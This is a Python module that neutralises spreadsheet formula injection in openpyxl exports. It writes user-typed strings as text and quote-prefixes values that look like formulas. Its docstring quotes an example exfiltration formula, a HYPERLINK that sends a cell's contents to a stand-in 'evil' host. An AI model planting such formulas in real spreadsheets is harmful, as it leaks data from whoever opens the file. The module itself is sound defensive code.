"""Every cell a user typed goes into an exported workbook as text, never as a formula (issue 13, defect 1).

openpyxl stores any string that starts with "=" as a formula, so a subject typed as
`=HYPERLINK("http://evil/?"&A1, "Открыть")` in a form, an import file or an anonymous questionnaire answer
ran in the curator's Excel. Here every string cell is written with the string type; one that starts with a
character a spreadsheet reads as the start of a formula (= + - @, tab, carriage return) also gets Excel's
"quote prefix" — the apostrophe Excel itself adds to text typed as '=… — so it stays text when someone opens
the cell and presses Enter, in Excel and LibreOffice alike. The value itself is not changed: a phone number
"+7 900 …" reads as typed and an exported base imports back unchanged. Characters XML forbids are dropped and
text is cut to Excel's cell limit, so no export fails on what a person typed.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
EXCEL_CELL_MAX = 32767


def clean_text(value: str) -> str:
    """A string Excel accepts: no control characters XML forbids, at most a cell's worth of characters."""
    return ILLEGAL_CHARACTERS_RE.sub("", value)[:EXCEL_CELL_MAX]


def is_formula_like(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)


def safe_cell(cell: Any, value: Any) -> Any:
    """Put `value` in `cell`: strings as text (neutralised when they look like a formula), others as they are."""
    if isinstance(value, str):
        value = clean_text(value)
        cell.value = value
        cell.data_type = "s"
        if value.startswith(FORMULA_PREFIXES):
            cell.quotePrefix = True
    else:
        cell.value = value
    return cell


def write(sheet: Any, row: int, column: int, value: Any) -> Any:
    return safe_cell(sheet.cell(row=row, column=column), value)


def write_row(sheet: Any, row: int, values: Iterable[object]) -> None:
    """Row `row` of `sheet` from `values` (first column first), each through `safe_cell`."""
    for column, value in enumerate(values, start=1):
        safe_cell(sheet.cell(row=row, column=column), value)
